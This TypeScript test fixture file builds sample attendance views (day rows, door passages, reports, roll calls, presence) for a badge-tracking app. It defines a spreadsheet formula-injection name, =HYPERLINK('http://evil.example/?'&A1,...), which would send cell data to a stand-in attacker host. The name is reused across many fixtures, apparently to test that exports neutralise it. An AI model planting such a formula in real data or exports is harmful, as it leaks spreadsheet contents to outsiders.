import { verdicts } from '../../attendance/workday.ts';
import type { DayRow, DayView, ProofView, WorkdayView } from '../../views/shapes/day.ts';
import type { PassageView } from '../../views/shapes/passage.ts';
import type { PersonDaysView, PersonView, PresenceView } from '../../views/shapes/people.ts';
import type { RangeView } from '../../views/shapes/range.ts';
import type { ReportView } from '../../views/shapes/report.ts';
import type { RollCallView } from '../../views/shapes/roll-calls.ts';

/* Views made by hand: 20 November 2026 in Chicago, with a name that a console may really send. */

export const hostileName = '=HYPERLINK("http://evil.example/?"&A1,"Ann")';
export const fromMs = Date.parse('2026-11-20T06:00:00Z');
export const untilMs = fromMs + 86_400_000;
export const firstMs = Date.parse('2026-11-20T14:17:12.345Z');
export const first = '2026-11-20T08:17:12.345-06:00';
export const latestMs = Date.parse('2026-11-20T23:02:00.007Z');
export const latest = '2026-11-20T17:02:00.007-06:00';

export const proof: ProofView = {
  console: 1,
  consoleName: 'Main, "HQ"',
  date: '2026-11-20',
  zone: 'America/Chicago',
  fromMs,
  untilMs,
  state: 'complete',
  why: [{ code: 'reads-agree', text: 'Two whole reads agree.' }],
  wholeReads: 2,
  rowCount: 41,
  liveCount: 40,
  unmatchedCount: 1,
  completeMs: untilMs + 7_200_000,
  readUntilMs: untilMs,
  readUntil: '2026-11-21T00:00:00.000-06:00',
};

const judged: Omit<WorkdayView, 'personId' | 'passages'> = {
  date: '2026-11-20',
  zone: 'America/Chicago',
  startMs: fromMs,
  endMs: untilMs,
  limitMs: fromMs + 32_460_000,
  start: '09:00',
  graceMinutes: 5,
  rulesOf: { kind: 'group', id: 'g1', name: 'Office' },
  verdict: 'late',
  remark: 'so far',
  proof: 'complete',
  firstMs,
  first,
  latestMs,
  latest,
  shownBefore: { verdict: 'on time', firstMs, first },
  badges: 4,
  minutesLate: 17,
  hours: {
    firstToLatestMs: latestMs - firstMs,
    insideMs: 27_000_000,
    stays: [],
    missingExits: 1,
    missingEntries: 2,
    stillInside: false,
  },
  marks: [],
  doorName: 'Lobby',
  method: 'card',
  why: [
    { code: 'arrived', text: 'Came at 08:17.' },
    { code: 'set-aside', text: 'A part is set aside.' },
  ],
};

export const row: DayRow = {
  ...judged,
  personId: 'p1',
  name: hostileName,
  kind: 'staff',
  isUnknown: false,
  groups: ['Office', 'Night; shift'],
  actorIds: ['a1', 'a2'],
  isIn: true,
};

export const absent: DayRow = {
  ...row,
  personId: 'p2',
  name: 'Zoë 李雷',
  groups: [],
  actorIds: ['a3'],
  isIn: false,
  verdict: 'absent',
  remark: null,
  firstMs: null,
  first: null,
  latestMs: null,
  latest: null,
  badges: 0,
  minutesLate: 0,
  hours: { ...row.hours, firstToLatestMs: null, insideMs: null, missingExits: 0, missingEntries: 0 },
  doorName: '',
  method: '',
  why: [],
};

export const passage: PassageView = {
  id: 'x1',
  console: 1,
  atMs: firstMs,
  at: first,
  personId: 'p1',
  actorId: 'a1',
  name: hostileName,
  actorType: 'user',
  doorId: 'd1',
  doorName: 'Lobby\nEast',
  direction: 'entry',
  method: 'card',
  result: 'granted',
  evidence: 'log',
  counts: 'arrival',
  why: [{ code: 'counts', text: 'It counts.' }],
  sightings: [
    {
      channel: 'log',
      atMs: firstMs,
      at: first,
      knownMs: firstMs,
      method: 'card',
      result: 'granted',
      direction: 'entry',
      doorName: 'Lobby',
    },
    {
      channel: 'webhook',
      atMs: firstMs + 5,
      at: '2026-11-20T08:17:12.350-06:00',
      knownMs: firstMs,
      method: '',
      result: 'granted',
      direction: null,
      doorName: '',
    },
  ],
};
/** Nobody we know, nowhere we know, on a day whose proof is not told. */
export const unknownPassage: PassageView = {
  ...passage,
  id: 'x2',
  atMs: untilMs,
  at: '2026-11-21T00:00:00.000-06:00',
  personId: null,
  actorId: '',
  name: '',
  doorId: null,
  doorName: '',
  direction: null,
  counts: 'none',
  why: [],
  sightings: [],
};

export const day: DayView = {
  date: '2026-11-20',
  zone: 'America/Chicago',
  isToday: false,
  closed: [],
  proofs: [proof],
  setAsides: [],
  latest: null,
  figures: {
    expected: 2,
    in: 1,
    onTime: 0,
    late: 1,
    notHere: 0,
    absent: 1,
    pending: 0,
    excused: 0,
    medianFirstMs: null,
    medianFirst: null,
  },
  rows: [row, absent],
  visitors: [{ ...absent, personId: 'v1', name: 'Vic Visitor', kind: 'visitor', verdict: 'off' }],
  neverSeen: [{ personId: 'p9', name: 'Never Seen' }],
  unmatched: [passage],
};

export const totals: RangeView['people'][number]['totals'] = {
  days: {
    ...(Object.fromEntries(verdicts.map((verdict) => [verdict, 0])) as Record<(typeof verdicts)[number], number>),
    late: 1,
    absent: 1,
  },
  expectedDays: 2,
  daysHere: 1,
  minutesLate: 17,
  badges: 4,
  streak: 0,
  longestStreak: 3,
  firstToLatest: { ms: 31_500_000, days: 1 },
  inside: { ms: 27_000_000, days: 1 },
  missingExits: 1,
  missingEntries: 2,
  unprovenDays: 0,
  openDays: 1,
};

const lateCell = {
  verdict: 'late',
  remark: 'so far',
  firstMs,
  first,
  latestMs,
  latest,
  shownBefore: { verdict: 'on time', firstMs, first },
  badges: 4,
  minutesLate: 17,
  firstToLatestMs: latestMs - firstMs,
  insideMs: null,
  missingExits: 1,
  proof: 'complete',
  why: 'arrived',
} as const;
const absentCell = {
  ...lateCell,
  verdict: 'absent',
  remark: null,
  firstMs: null,
  first: null,
  latestMs: null,
  latest: null,
  badges: 0,
  minutesLate: 0,
  firstToLatestMs: null,
  missingExits: 0,
  proof: 'live',
  why: 'complete-without-passage',
} as const;

export const range: RangeView = {
  from: '2026-11-20',
  to: '2026-11-21',
  days: [
    { date: '2026-11-20', proof: 'complete', isSetAside: false },
    { date: '2026-11-21', proof: 'live', isSetAside: true },
  ],
  people: [{ personId: 'p1', name: hostileName, groups: ['Office'], cells: [lateCell, absentCell], totals }],
};

const reportTotals = { ...totals, unverifiedDays: 1 };
export const report: ReportView = {
  from: '2026-11-20',
  to: '2026-11-21',
  days: range.days,
  people: [
    {
      personId: 'p1',
      name: hostileName,
      groups: ['Office'],
      cells: [
        { verdict: 'late', remark: 'so far', first: '08:17', minutesLate: 17 },
        { verdict: 'off', why: 'holiday' },
      ],
      totals: reportTotals,
    },
  ],
  sums: {
    people: 1,
    days: totals.days,
    expectedDays: 2,
    daysHere: 1,
    minutesLate: 17,
    firstToLatest: totals.firstToLatest,
    inside: totals.inside,
    unverifiedDays: 1,
    openDays: 1,
  },
  histogram: [{ fromMinute: 495, count: 3, late: 1 }],
  heat: [
    { weekday: 5, fromMinute: 495, count: 2, late: 1 },
    { weekday: 6, fromMinute: 495, count: 1, late: 0 },
  ],
  trend: [
    { date: '2026-11-20', onTime: 2, late: 1, absent: 1, minutesPastLimit: { lower: -10, median: -1, upper: 3 } },
    { date: '2026-11-21', onTime: 0, late: 0, absent: 0, minutesPastLimit: null },
    { date: '2026-11-22', onTime: 0, late: 0, absent: 0, minutesPastLimit: null, isOpen: true },
    { date: '2026-11-23', onTime: 1, late: 0, absent: 0, minutesPastLimit: null, isOpen: true },
  ],
  presence: { days: 2, known: 3, single: 1, quarters: [{ fromMinute: 1500, sum: 3, most: 2 }] },
};

export const person: PersonView = {
  personId: 'p1',
  name: hostileName,
  kind: 'staff',
  isUnknown: false,
  console: 1,
  groupIds: ['g1'],
  groups: ['Office'],
  hidden: false,
  exempt: true,
  isActive: null,
  firstSeenMs: firstMs,
  identities: [
    {
      console: 1,
      actorId: 'a1',
      personId: 'p1',
      name: 'Ann',
      email: 'ann@example.com',
      status: 'active',
      onboardMs: null,
    },
    { console: 2, actorId: 'b1', personId: 'p7', name: 'Ann', email: 'ann@example.com', status: null, onboardMs: null },
  ],
  merges: [{ id: 'm1', personId: 'p7', name: 'Ann L.', by: 'account:boss', atMs: firstMs }],
};

export const workday: WorkdayView = { ...judged, personId: 'p1', passages: [passage] };
export const personDays: PersonDaysView = { person, from: '2026-11-20', to: '2026-11-20', workdays: [workday], totals };

export const rollCall: RollCallView = {
  id: 'r1',
  startedMs: firstMs,
  started: first,
  endedMs: latestMs,
  ended: latest,
  by: 'account:boss',
  endedBy: 'account:boss',
  next: null,
  cause: 'hand',
  isDrill: true,
  why: hostileName,
  console: null,
  expected: 1,
  safe: 1,
  missing: 0,
  allAfterMs: 65_000,
  medianAfterMs: 65_000,
  mode: 'in-out',
  lastPassageMs: null,
  zone: 'America/Chicago',
  tookOver: [],
  people: [
    {
      personId: 'p1',
      name: hostileName,
      kind: 'staff',
      groups: ['Office'],
      isIn: true,
      lastAtMs: firstMs,
      lastAt: first,
      console: 1,
      doorId: 'd1',
      doorName: 'Lobby',
      place: 'Ground',
      counts: 'arrival',
      isDirectionTold: true,
      evidence: 'log',
      safe: {
        how: 'badge',
        atMs: latestMs,
        at: latest,
        toldMs: null,
        told: null,
        afterMs: 65_000,
        by: '',
        doorName: 'Gate',
        markIds: [],
        badgesUntilMs: latestMs,
      },
      seenSince: null,
    },
  ],
  musterDoors: [{ console: 1, doorId: 'd2', name: 'Gate' }],
  others: [{ personId: 'p2', name: 'Bo', atMs: latestMs, at: latest, doorName: 'Gate' }],
};

export const presence: PresenceView = {
  mode: 'in-out',
  in: 1,
  people: [
    {
      personId: 'p1',
      name: hostileName,
      kind: 'staff',
      groups: ['Office'],
      isIn: true,
      date: '2026-01-05',
      sinceMs: firstMs,
      since: first,
      lastAtMs: latestMs,
      lastAt: latest,
      console: 1,
      doorId: 'd1',
      doorName: 'Lobby',
      place: 'Ground floor',
      counts: 'arrival',
      isDirectionTold: true,
      evidence: 'live',
    },
  ],
  lastPassageMs: latestMs,
  readUntil: [
    { console: 1, untilMs: firstMs },
    { console: 2, untilMs: null },
  ],
};
